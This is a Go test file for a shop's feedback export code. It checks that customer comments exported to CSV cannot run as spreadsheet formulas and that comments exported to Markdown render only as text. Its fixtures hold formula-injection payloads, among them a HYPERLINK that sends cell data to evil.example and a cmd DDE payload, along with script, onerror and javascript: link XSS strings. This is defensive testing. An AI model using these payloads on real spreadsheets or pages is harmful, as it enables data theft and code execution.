package feedback_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	gmhtml "github.com/yuin/goldmark/renderer/html"

	"github.com/daifuku/daifuku/shared/domain/feedback"
)

// Comments written to attack the shop's page or its spreadsheet.
var hostile = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"詳しくはこちら")`,
	`+SUM(1+1)`,
	`-2+3`,
	`@cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`<script>alert("x")</script>とても良い品でした`,
	`<img src=x onerror=alert(1)>`,
	`[公式サイト](javascript:alert(document.cookie))`,
	`![画像](javascript:alert(1))`,
	"<javascript:alert(1)>",
	"# 見出し\n- 一覧\n1. 番号\n| a | b |",
	"`code` *強調* _下線_ ~~消す~~ & &amp;",
}

func testimonials() []feedback.Testimonial {
	var ts []feedback.Testimonial
	for i, text := range hostile {
		ts = append(ts, feedback.Testimonial{ID: "web-" + string(rune('a'+i)), Text: text, Rating: 5, Profile: "30代・女性・リピーター",
			At: time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)})
	}
	return ts
}

func TestCSVRunsNoFormulas(t *testing.T) {
	var b bytes.Buffer
	if err := feedback.WriteCSV(&b, testimonials()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows", len(rows))
	}
	for i, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d: cell %q would run as a formula", i+1, cell)
			}
		}
		// The words are all there, after the apostrophe.
		if got := strings.TrimPrefix(row[4], "'"); got != strings.TrimSpace(hostile[i]) && got != hostile[i] {
			t.Errorf("row %d: comment %q, want %q kept", i+1, row[4], hostile[i])
		}
	}
}

// The Markdown is meant for the shop's page: rendered by a real Markdown
// renderer that lets raw HTML and any link through (the worst a shop's site
// may use), no comment becomes markup, a script or a link.
func TestMarkdownRendersCommentsAsText(t *testing.T) {
	var md bytes.Buffer
	if err := feedback.WriteMarkdown(&md, "こもれび<b>", testimonials()); err != nil {
		t.Fatal(err)
	}
	var html bytes.Buffer
	unsafe := goldmark.New(goldmark.WithRendererOptions(gmhtml.WithUnsafe()))
	if err := unsafe.Convert(md.Bytes(), &html); err != nil {
		t.Fatal(err)
	}
	out := html.String()
	for _, bad := range []string{"<script", "<img", "<a ", "href=", "javascript:alert(1)\"", "<b>", "<h1>見出し", "<li>", "<code>", "<em>", "<table"} {
		if strings.Contains(out, bad) {
			t.Errorf("rendered page contains %q:\n%s", bad, out)
		}
	}
	// The words themselves survive, as text.
	for _, want := range []string{"&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;とても良い品でした", "[公式サイト](javascript:alert(document.cookie))",
		"=HYPERLINK(", "# 見出し", "`code` *強調* _下線_"} {
		if !strings.Contains(out, want) {
			t.Errorf("rendered page lost %q:\n%s", want, out)
		}
	}
	if strings.Count(out, "<blockquote>") != len(hostile) {
		t.Errorf("%d quotes, want %d:\n%s", strings.Count(out, "<blockquote>"), len(hostile), out)
	}
}
